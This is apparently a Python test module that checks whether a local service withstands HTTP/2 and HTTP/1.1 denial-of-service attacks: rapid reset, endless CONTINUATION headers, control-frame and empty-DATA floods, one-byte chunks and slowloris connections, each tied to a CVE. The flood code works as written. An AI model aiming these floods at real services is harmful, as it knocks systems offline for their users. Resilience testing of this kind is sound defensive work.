"""Floods of frames of HTTP/2, and many senders that are slow."""
import asyncio

from . import http2
from .abusers import abuse

# What is written before the service's answers are looked at.
STREAMS_AT_ONCE = 100
CONTINUATION_BYTES = 16_000


async def flood(abuser, frames):
    """Writes frames again and again, and takes what comes, until the service ends the connection; how it did."""
    async with abuser.client.connection() as (reader, writer):
        writer.write(http2.begin(window_bytes=65_535))
        if http2.kind_of(await reader.readexactly(http2.FRAME_HEAD_BYTES)) != http2.SETTINGS:
            return "cut"
        abuser.outcomes["held"] += 1
        return await until_cut(reader, writer, frames)


async def until_cut(reader, writer, frames):
    ended = asyncio.create_task(reader.read(-1))
    try:
        while not ended.done():
            writer.write(next(frames))
            await writer.drain()
            await asyncio.sleep(0)
        return "told to go" if http2.GOAWAY in http2.kinds(await ended) else "cut"
    finally:
        ended.cancel()
        await asyncio.gather(ended, return_exceptions=True)


def key_of(client):
    return [("x-api-key", client.credentials.split(": ", 1)[1].strip())]


@abuse
async def rapid_resets(abuser):
    """Calls that are given up at once, over and over (CVE-2023-44487)."""
    client = abuser.client

    def calls():
        first, authority = 1, f"127.0.0.1:{client.port}"
        while True:
            streams = range(first, first + 2 * STREAMS_AT_ONCE, 2)
            yield b"".join(http2.get(stream, "/v1/requests?full=true", authority, key_of(client)) + http2.reset(stream) for stream in streams)
            first += 2 * STREAMS_AT_ONCE

    await abuser.repeat(4, lambda number: flood(abuser, calls()))


@abuse
async def endless_headers(abuser):
    """A call whose header fields go on without end (CVE-2024-27316)."""
    def pieces():
        yield http2.open_head(1)
        while True:
            yield http2.go_on(1, CONTINUATION_BYTES)

    await abuser.repeat(4, lambda number: flood(abuser, pieces()))


@abuse
async def control_frames(abuser):
    """Frames that open no call (CVE-2019-9512, CVE-2019-9515)."""
    frames = http2.control_frames() * 100
    await abuser.repeat(8, lambda number: flood(abuser, iter(lambda: frames, None)))


@abuse
async def tiny_pieces(abuser):
    """Bodies of calls in frames of HTTP/2 without a byte (CVE-2019-9518), and in chunks of HTTP/1.1 of one byte."""
    client = abuser.client

    def frames():
        fields = [*key_of(client), ("content-type", "application/x-ndjson")]
        yield http2.post(1, "/v1/requests", f"127.0.0.1:{client.port}", fields)
        while True:
            yield http2.frame(http2.DATA, 0, 1, b"") * 400

    async def chunks():
        async with client.connection() as (reader, writer):
            writer.write(client.head("POST", "/v1/requests", more="Content-Type: application/x-ndjson\r\nTransfer-Encoding: chunked\r\n")
                         .replace(b"Content-Length: 0\r\n", b""))
            abuser.outcomes["held"] += 1
            return await until_cut(reader, writer, iter(lambda: b"1\r\n \r\n" * 400, None))

    await abuser.repeat(8, lambda number: chunks() if number % 2 else flood(abuser, frames()))


@abuse
async def slow_senders(abuser):
    """2,000 connections on which a call comes a byte a second."""
    async def trickle(number):
        async with abuser.client.connection() as (reader, writer):
            abuser.outcomes["held"] += 1
            for byte in abuser.client.head("GET", "/v1/account"):
                writer.write(bytes([byte]))
                await writer.drain()
                if reader.at_eof():
                    return "cut"
                await asyncio.sleep(1)
            return "sent"
    await abuser.repeat(abuser.some(2_000), trickle)
